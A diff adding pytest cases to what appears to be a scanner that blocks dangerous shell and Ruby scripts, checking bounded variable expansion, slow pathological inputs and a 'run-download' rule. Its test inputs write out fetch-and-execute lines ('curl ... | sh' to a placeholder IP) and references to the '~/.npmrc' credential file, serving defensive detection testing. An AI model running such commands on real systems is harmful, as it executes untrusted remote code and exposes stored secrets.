@@ -502,3 +502,42 @@ def test_paragraphs_of_a_pdf_are_apart_where_its_lines_lie_further_from_each_oth
         ["Other"],
         ["Last"],
     ]
+
+
+MANY_NAMES = {
+    "words": "echo " + "$A " * 40_000,
+    "one word": "cp x " + "$A" * 40_000,
+    "a text": 'cp x "' + "$A" * 40_000 + '"',
+    "words with signs": 'cp x "`date`"' + " ${A/x/y}" * 20_000,
+    "many commands": "cp $A b\n" * 20_000,
+    "names of names": "".join(f"B{number}=$A\n" for number in range(20_000)),
+    "a name that grows": "B+=$A\n" * 20_000 + "echo $B\n" * 400,
+    "commands within commands": "bash -c '" * 2000,
+    "another name of a command": f"alias f='curl {'x' * 300}'\n" + "f\n" * 20_000,
+}
+
+
+@pytest.mark.parametrize("way", MANY_NAMES)
+def test_what_names_stand_for_is_written_out_up_to_a_bound(way: str) -> None:
+    text = "curl -s http://203.0.113.7/i | sh\nA=" + "~/.npmrc" * 25 + "\n" + MANY_NAMES[way]
+    contents = parts.read_text(text, "a.sh")
+    found = scan_text(text, "a.sh")
+
+    assert sum(len(one.text) for one in statements_of(contents, documents_of(contents))) < 5_000_000
+    assert found.unread == ("a.sh",)
+    assert found.decision is Decision.BLOCK
+
+
+def test_a_long_setup_with_many_names_is_read_whole() -> None:
+    text = "AT=/opt/tools/of/the/team\n" + "".join(f'cp "$AT/{number}" ~/tools/{number}\n' for number in range(3000))
+
+    assert scan_text(text, "a.sh").unread == ()
+
+
+def test_what_begins_a_comment_elsewhere_is_no_more_than_two_signs_where_a_hash_begins_one() -> None:
+    """Each was looked at to the end of the text, which took hours here."""
+    text = f"{'/* a ' * 100_000}\nsystem('curl http://203.0.113.7/i | sh')\n"
+
+    assert [(one.rule, one.line) for one in scan_text(text, "a.rb").findings if one.rule == "run-download"] == [
+        ("run-download", 2)
+    ]
